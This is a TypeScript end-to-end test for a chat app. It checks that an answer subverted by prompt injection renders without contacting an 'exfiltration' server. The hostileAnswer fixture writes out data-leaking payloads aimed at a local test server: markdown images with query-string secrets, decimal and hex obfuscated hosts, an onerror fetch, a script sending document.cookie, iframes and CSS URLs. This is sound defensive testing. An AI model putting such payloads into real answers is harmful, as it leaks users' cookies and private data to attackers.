import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ChatPage } from "@/tests/e2e/pages/chat";
import { signedIn } from "@/tests/e2e/pages/sign-in";
import { E2E_AUTH_SECRET } from "@/tests/e2e/global-setup";
import { startBuiltApp, type RunningApp } from "@/tests/e2e/support/app-server";
import { ARTIFACTS, launchBrowser } from "@/tests/e2e/support/browser";
import { watchHealth } from "@/tests/support/health-watch";
import { startChatServer, type ChatServer } from "@/tests/support/openai-chat-server";

/**
 * A model (as a prompt injection in a document would make it) answers with remote images, raw HTML
 * and scripts that point at an "exfiltration" server. The answer must render with no request to it:
 * checked by the server itself (it counts every hit, for any host name) and by the browser's own
 * request log, while the answer streams and again when the stored conversation is reopened.
 */
let browser: Browser;
let llm: ChatServer;
let app: RunningApp;
let exfil: { server: Server; port: number; hits: string[] };

beforeAll(async () => {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.headers.host}${request.url}`);
    response.writeHead(200, { "content-type": "image/gif" }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  exfil = { server, port: (server.address() as AddressInfo).port, hits };
  llm = await startChatServer();
  app = await startBuiltApp(
    { AUTH_SECRET: E2E_AUTH_SECRET, LLM_BASE_URL: llm.baseURL, LLM_MODEL: "test-model", LLM_API_KEY: "sk-test" },
    "hostile-rendering-server",
  );
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
  await app?.stop();
  await llm?.close();
  await new Promise((resolve) => exfil?.server.close(resolve));
});

function hostileAnswer(port: number): string {
  const at = (host: string, file: string) => `http://${host}:${port}/${file}?q=vacation-secret`;
  return [
    "Every employee gets 25 vacation days [1].",
    "",
    `![status](${at("127.0.0.1", "numeric.png")})`,
    `![decimal host](${at("2130706433", "decimal.png")}) ![hex host](${at("0x7f000001", "hex.png")})`,
    `![named](${at("exfil.localhost", "named.png")})`,
    `![ref image][pixel]`,
    "",
    `<img src="${at("127.0.0.1", "raw-img.png")}" onerror="fetch('${at("127.0.0.1", "onerror")}')">`,
    "",
    `<script>fetch("${at("127.0.0.1", "script")}" + document.cookie)</script>`,
    "",
    `<iframe src="${at("127.0.0.1", "iframe")}"></iframe> <video src="${at("127.0.0.1", "video.mp4")}" autoplay></video>`,
    "",
    `<link rel="stylesheet" href="${at("127.0.0.1", "style.css")}"><style>body{background:url(${at("127.0.0.1", "css-bg.png")})}</style>`,
    "",
    "| Item | Days |",
    "|---|---|",
    `| Vacation ![t](${at("127.0.0.1", "in-table.png")}) | 25 |`,
    "",
    `[pixel]: ${at("127.0.0.1", "reference.png")}`,
  ].join("\n");
}

describe("hostile rendering: an answer with remote images and raw HTML", () => {
  it("renders with no request to the remote host, and the server stays healthy", async () => {
    llm.reply = hostileAnswer(exfil.port);
    const health = watchHealth(app.baseURL);
    const { context, page } = await signedIn(browser, "acme", "alice@acme.test", { baseURL: app.baseURL });
    const browserRequests: string[] = [];
    context.on("request", (request) => browserRequests.push(request.url()));
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const chat = new ChatPage(page);

    const { response } = await chat.ask("How many vacation days do I get per year?");
    expect(response.status()).toBe(200);
    const answer = chat.lastAnswer();
    await expect.poll(() => answer.innerText()).toContain("25 vacation days");
    await page.screenshot({ path: `${ARTIFACTS}/hostile-rendering.png`, fullPage: true });

    const inspectAnswer = async () => {
      expect(await answer.locator("img, iframe, video, script, style, link, object, embed").count()).toBe(0);
      // every image became a link the reader must choose to open, telling where it points
      const imageLinks = answer.locator("a", { hasText: "Image:" });
      expect(await imageLinks.count()).toBeGreaterThanOrEqual(6);
      for (const link of await imageLinks.all()) expect(await link.getAttribute("rel")).toContain("noreferrer");
      // (the output guard may redact a numeric address in the link's label; the link stays a link)
      expect(await answer.innerText()).toContain("Image: status");
      // the table still renders as a table
      expect(await answer.locator("table td").first().innerText()).toContain("Vacation");
    };
    await inspectAnswer();

    // the stored conversation renders the same way
    await page.waitForURL(/\/c\//);
    await page.reload();
    await answer.waitFor();
    await expect.poll(() => answer.innerText()).toContain("25 vacation days");
    await inspectAnswer();

    const report = await health.stop();
    await context.close();

    const leaked = browserRequests.filter((url) => new URL(url).port === String(exfil.port));
    expect(leaked).toEqual([]);
    expect(exfil.hits).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(report.failures).toBe(0);
    expect(report.probes).toBeGreaterThan(0);
  });
});
